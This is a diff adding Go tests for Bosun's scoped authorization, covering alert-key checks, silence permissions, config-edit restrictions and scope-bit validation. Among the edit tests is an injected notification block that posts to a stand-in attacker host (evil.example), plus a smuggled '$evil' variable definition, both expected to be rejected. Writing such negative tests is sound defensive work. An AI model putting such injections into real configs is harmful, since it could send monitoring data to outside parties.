@@ -0,0 +1,231 @@
+package web
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/captncraig/easyauth"
+	"github.com/captncraig/easyauth/providers/token"
+
+	"bosun.org/cmd/bosun/conf"
+	"bosun.org/models"
+	"bosun.org/opentsdb"
+)
+
+type staticUser struct{ access easyauth.Role }
+
+func (s staticUser) GetUser(r *http.Request) (*easyauth.User, error) {
+	return &easyauth.User{Username: "test", Method: "static", Access: s.access}, nil
+}
+
+// asUser runs check in a request of a user with access to a route of perm, and
+// returns the status of the route and the error of check.
+func asUser(t *testing.T, access, perm easyauth.Role, check func(r *http.Request) error) (int, error) {
+	auth, err := easyauth.New(easyauth.CookieSecret("aTestSecret"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	auth.AddProvider("static", staticUser{access})
+	var checkErr error
+	h := auth.Wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		checkErr = check(r)
+	}), scopedRole(perm))
+	w := httptest.NewRecorder()
+	h.ServeHTTP(w, httptest.NewRequest("POST", "/api/action", nil))
+	return w.Code, checkErr
+}
+
+func TestScopes(t *testing.T) {
+	defer buildScopes(nil)
+	err := buildScopes([]conf.AuthScope{
+		{Name: "storage", Alerts: []string{"storage.*", "backup"}, Role: "Actions,Silence,Save Config"},
+		{Name: "db", Bit: 1, Tags: "team=db*", Role: "Actions, Silence"},
+		{Name: "dbconfig", Bit: 2, Tags: "team=db", Role: "Save Config"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	storage, err := parseRole("Reader,Scope:storage")
+	if err != nil {
+		t.Fatal(err)
+	}
+	db, err := parseRole("Reader,Scope: db")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dbconfig, err := parseRole("Reader,Scope:dbconfig")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if code, _ := asUser(t, roleReader, canPerformActions, func(*http.Request) error { return nil }); code != http.StatusForbidden {
+		t.Errorf("reader without scopes: expected status 403, got %d", code)
+	}
+	if code, _ := asUser(t, db, canSaveConfig, func(*http.Request) error { return nil }); code != http.StatusForbidden {
+		t.Errorf("db scope may not save config: expected status 403, got %d", code)
+	}
+
+	keys := func(s ...string) []models.AlertKey {
+		var aks []models.AlertKey
+		for _, k := range s {
+			aks = append(aks, models.AlertKey(k))
+		}
+		return aks
+	}
+	for i, test := range []struct {
+		access easyauth.Role
+		keys   []models.AlertKey
+		ok     bool
+	}{
+		{storage, keys("storage.disk{host=a}", "backup{}"), true},
+		{storage, keys("storage.disk{host=a}", "web.cpu{host=a}"), false},
+		{db, keys("web.cpu{host=a,team=dba}"), true},
+		{db, keys("web.cpu{host=a}"), false},
+		{storage | db, keys("storage.disk{host=a}", "web.cpu{team=db}"), true},
+		{roleWriter, keys("web.cpu{host=a}"), true},
+	} {
+		code, err := asUser(t, test.access, canPerformActions, func(r *http.Request) error {
+			return checkAlertKeys(r, canPerformActions, test.keys)
+		})
+		if code != http.StatusOK {
+			t.Errorf("%d: expected status 200, got %d", i, code)
+		}
+		if (err == nil) != test.ok {
+			t.Errorf("%d: expected ok %v, got error %v", i, test.ok, err)
+		}
+	}
+
+	silence := func(alert, tags string) *models.Silence {
+		si := &models.Silence{Alert: alert, Tags: make(opentsdb.TagSet), TagString: tags}
+		if tags != "" {
+			ts, _, err := models.ParseTagFilters(tags)
+			if err != nil {
+				t.Fatal(err)
+			}
+			si.Tags = ts
+		}
+		return si
+	}
+	for i, test := range []struct {
+		access  easyauth.Role
+		silence *models.Silence
+		ok      bool
+	}{
+		{storage, silence("storage.disk", "host=a"), true},
+		{storage, silence("storage.*", ""), true},
+		{storage, silence("storage*", ""), false},
+		{storage, silence("~storage.*", ""), false},
+		{storage, silence("", "host=a"), false},
+		{db, silence("", "team=db*"), true},
+		{db, silence("web.cpu", "team=dba,host=a"), true},
+		{db, silence("", "team=d*"), false},
+		{db, silence("", "host=a"), false},
+		{roleAdmin, silence("", "host=*"), true},
+	} {
+		_, err := asUser(t, test.access, canSilence, func(r *http.Request) error {
+			return checkSilences(r, test.silence)
+		})
+		if (err == nil) != test.ok {
+			t.Errorf("%d: expected ok %v, got error %v", i, test.ok, err)
+		}
+	}
+
+	for i, test := range []struct {
+		access easyauth.Role
+		edit   conf.EditRequest
+		ok     bool
+	}{
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Text: "alert storage.disk {\n\tcrit = 1\n}"}, true},
+		{storage, conf.EditRequest{Type: "alert", Text: "alert backup {\n\tcrit = 1\n}"}, true},
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Delete: true}, true},
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Text: "alert web.cpu {\n\tcrit = 1\n}"}, false},
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Text: "alert storage.disk {\n\tcrit = 1\n}\nalert web.cpu {\n\tcrit = 1\n}"}, false},
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Text: "alert storage.disk {\n\tcrit = 1\n} notification evil {\n\tpost = http://evil.example/\n}"}, false},
+		{storage, conf.EditRequest{Type: "alert", Name: "storage.disk", Text: "$evil = 1\nalert storage.disk {\n\tcrit = 1\n}"}, false},
+		{storage, conf.EditRequest{Type: "template", Name: "storage.disk", Text: "template storage.disk {\n}"}, false},
+		// scopes without alerts cannot limit definitions
+		{dbconfig, conf.EditRequest{Type: "alert", Name: "web.cpu", Delete: true}, false},
+		{roleWriter, conf.EditRequest{Type: "template", Name: "t", Text: "template t {\n}"}, true},
+	} {
+		code, err := asUser(t, test.access, canSaveConfig, func(r *http.Request) error {
+			return checkEdits(r, conf.BulkEditRequest{test.edit})
+		})
+		if code != http.StatusOK {
+			t.Errorf("%d: expected status 200, got %d", i, code)
+		}
+		if (err == nil) != test.ok {
+			t.Errorf("%d: expected ok %v, got error %v", i, test.ok, err)
+		}
+	}
+}
+
+func TestBuildScopes(t *testing.T) {
+	defer buildScopes(nil)
+	for name, scopes := range map[string][]conf.AuthScope{
+		"name":      {{Name: "a b", Alerts: []string{"a"}, Role: "Actions"}},
+		"duplicate": {{Name: "a", Alerts: []string{"a"}, Role: "Actions"}, {Name: "a", Bit: 1, Alerts: []string{"b"}, Role: "Actions"}},
+		"same bit":  {{Name: "a", Alerts: []string{"a"}, Role: "Actions"}, {Name: "b", Alerts: []string{"b"}, Role: "Actions"}},
+		"bit":       {{Name: "a", Bit: maxScopes, Alerts: []string{"a"}, Role: "Actions"}},
+		"empty":     {{Name: "a", Role: "Actions"}},
+		"alert":     {{Name: "a", Alerts: []string{"~("}, Role: "Actions"}},
+		"filter":    {{Name: "a", Tags: "team!=db", Role: "Actions"}},
+		"role":      {{Name: "a", Alerts: []string{"a"}, Role: "Reader"}},
+	} {
+		if err := buildScopes(scopes); err == nil {
+			t.Errorf("%s: expected an error", name)
+		}
+	}
+	if err := buildScopes([]conf.AuthScope{{Name: "a", Tags: "team=a", Role: "Silence"}}); err != nil {
+		t.Fatal(err)
+	}
+	if n := len(roleDefs.Permissions); n != len(basePermissions)+1 {
+		t.Errorf("expected %d permissions, got %d", len(basePermissions)+1, n)
+	}
+	if err := buildScopes(nil); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := parseRole("Scope:a"); err == nil {
+		t.Error("expected an error for a removed scope")
+	}
+}
+
+func TestCheckScopeBits(t *testing.T) {
+	defer buildScopes(nil)
+	scopes := func(names ...string) {
+		var cfgs []conf.AuthScope
+		for i, name := range names {
+			cfgs = append(cfgs, conf.AuthScope{Name: name, Bit: 10 + i, Alerts: []string{name + ".*"}, Role: "Actions"})
+		}
+		if err := buildScopes(cfgs); err != nil {
+			t.Fatal(err)
+		}
+	}
+	data, tokens := testData.Configs(), testData.Tokens()
+	scopes("storage", "dba")
+	if err := checkScopeBits(data, tokens); err != nil {
+		t.Fatal(err)
+	}
+	// no tokens hold the bits yet
+	scopes("dba", "storage")
+	if err := checkScopeBits(data, tokens); err != nil {
+		t.Fatal(err)
+	}
+	role, err := parseRole("Scope:dba")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tok := &token.Token{Hash: "scopebits", User: "test", Role: role}
+	if err := tokens.StoreToken(tok); err != nil {
+		t.Fatal(err)
+	}
+	defer tokens.RevokeToken(tok.Hash)
+	scopes("storage", "dba")
+	if err := checkScopeBits(data, tokens); err == nil {
+		t.Error("expected an error for the bit of a token given to another scope")
+	}
+	scopes("dba", "web")
+	if err := checkScopeBits(data, tokens); err != nil {
+		t.Error(err)
+	}
+}